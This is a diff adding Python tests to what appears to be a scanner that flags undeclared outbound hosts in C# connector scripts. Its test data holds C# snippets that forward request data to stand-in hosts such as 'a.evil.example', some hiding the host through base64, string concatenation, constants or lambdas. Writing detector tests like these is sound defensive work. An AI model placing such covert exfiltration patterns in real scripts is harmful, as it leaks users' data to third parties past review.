@@ -213,3 +213,75 @@ def test_corpus_script_egress_matches_the_hand_reading():
         package = PackageSource(path.parent, "folder").load()
         got = [(h.line, h.kind, h.host) for h in script_hosts(package)]
         assert got == READ_BY_HAND.get(key, []), key
+
+
+def _in_execute(body: str, members: str = "") -> bytes:
+    """A script whose ExecuteAsync runs ``body`` (from line 4) and forwards the platform's request."""
+    return ("public class Script : ScriptBase {\n" + members + "\n"
+            "    public override async Task<HttpResponseMessage> ExecuteAsync() {\n" + body + "\n"
+            "        return await Context.SendAsync(Context.Request, CancellationToken);\n    }\n}\n").encode()
+
+
+# Ways a hostile or careless script sends data to an undeclared host that the walk once passed in
+# silence (no host) or reported only as computed, though every part of the host is written in it.
+HIDDEN = {
+    "a scheme constant in string.Format": (
+        _in_execute('var u = string.Format("{0}://{1}/c?d={2}", Scheme, "a.evil.example", Uri.EscapeDataString(d));\n'
+                    "await Context.SendAsync(new HttpRequestMessage(HttpMethod.Get, u), CancellationToken);",
+                    'private const string Scheme = "https";'), [(4, "literal", "a.evil.example")]),
+    "an absolute URL as the relative part of new Uri(base, relative)": (
+        _in_execute('Context.Request.RequestUri = new Uri(new Uri(Context.Request.RequestUri.ToString()), "https://b.evil.example/c");'),
+        [(4, "rewrite", "b.evil.example")]),
+    "HttpClient.BaseAddress with a relative PostAsync": (
+        _in_execute('using (var c = new HttpClient { BaseAddress = new Uri("https://c.evil.example/") }) { await c.PostAsync("c", Context.Request.Content); }'),
+        [(4, "literal", "c.evil.example")]),
+    "WebRequest.CreateHttp": (
+        _in_execute('var r = WebRequest.CreateHttp("https://d.evil.example/c");'), [(4, "literal", "d.evil.example")]),
+    "a target-typed new HttpRequestMessage": (
+        _in_execute('HttpRequestMessage m = new(HttpMethod.Post, "https://e.evil.example/c");'), [(4, "literal", "e.evil.example")]),
+    "a static readonly host between literals": (
+        _in_execute('var m = new HttpRequestMessage(HttpMethod.Post, "https://" + SinkHost + "/c");',
+                    'private static readonly string SinkHost = "f.evil.example";'), [(4, "literal", "f.evil.example")]),
+    "string.Concat of literals": (
+        _in_execute('var m = new HttpRequestMessage(HttpMethod.Post, string.Concat("https://", "g.evil.example", "/c"));'),
+        [(4, "literal", "g.evil.example")]),
+    "a verbatim interpolation of a const host": (
+        _in_execute('var m = new HttpRequestMessage(HttpMethod.Post, $@"https://{Host}/c/{Context.OperationId}");',
+                    'private const string Host = "h.evil.example";'), [(4, "literal", "h.evil.example")]),
+    "a literal host before the request's path": (
+        _in_execute('Context.Request.RequestUri = new Uri("https://i.evil.example" + Context.Request.RequestUri.PathAndQuery);'),
+        [(4, "rewrite", "i.evil.example")]),
+    "a local function": (
+        _in_execute('string Target(string p) => "https://j.evil.example/" + p;\n'
+                    'var m = new HttpRequestMessage(HttpMethod.Post, Target("c"));'), [(4, "literal", "j.evil.example")]),
+    "a lambda held by a name": (
+        _in_execute('Func<string, Uri> target = p => new Uri("https://k.evil.example/" + p);\n'
+                    'var m = new HttpRequestMessage(HttpMethod.Post, target("c"));'), [(4, "literal", "k.evil.example")]),
+    "a switch expression": (
+        _in_execute('var u = Context.OperationId switch { "A" => "https://l.evil.example/a", _ => Context.Request.RequestUri.ToString() };\n'
+                    "Context.Request.RequestUri = new Uri(u);"), [(4, "rewrite", "l.evil.example")]),
+}
+
+
+@pytest.mark.parametrize("name", sorted(HIDDEN))
+def test_a_host_hidden_in_the_script_is_found(name):
+    source, expected = HIDDEN[name]
+    assert _hosts(source) == expected
+
+
+def test_obfuscated_hosts_are_computed_and_relative_parts_keep_the_base():
+    # hosts that only exist at run time are reported as computed at the request, never as none
+    for body in (
+        'string u = string.Empty; u += "https://m.evil.example"; var m = new HttpRequestMessage(HttpMethod.Post, u);',
+        'if (Uri.TryCreate("https://n.evil.example/c", UriKind.Absolute, out var t)) { var m = new HttpRequestMessage(HttpMethod.Post, t); }',
+        'var m = new HttpRequestMessage(HttpMethod.Post, Encoding.UTF8.GetString(Convert.FromBase64String("aHR0cHM6Ly9vLmV2aWwuZXhhbXBsZQ==")));',
+        "var m = new HttpRequestMessage(HttpMethod.Post, new string(new[] { 'h', 't', 't', 'p', 's' }));",
+    ):
+        assert _hosts(_in_execute(body)) == [(4, "computed", None)], body
+    # a relative part (a path, the request's own path, a bool) keeps the base's host
+    for body in (
+        'Context.Request.RequestUri = new Uri(Context.Request.RequestUri, "v2/widgets");',
+        "Context.Request.RequestUri = new Uri(new Uri(Context.Request.RequestUri.ToString()), Context.Request.RequestUri.PathAndQuery);",
+        "Context.Request.RequestUri = new Uri(Uri.UnescapeDataString(Context.Request.RequestUri.OriginalString), true);",
+    ):
+        assert _hosts(_in_execute(body)) == [], body
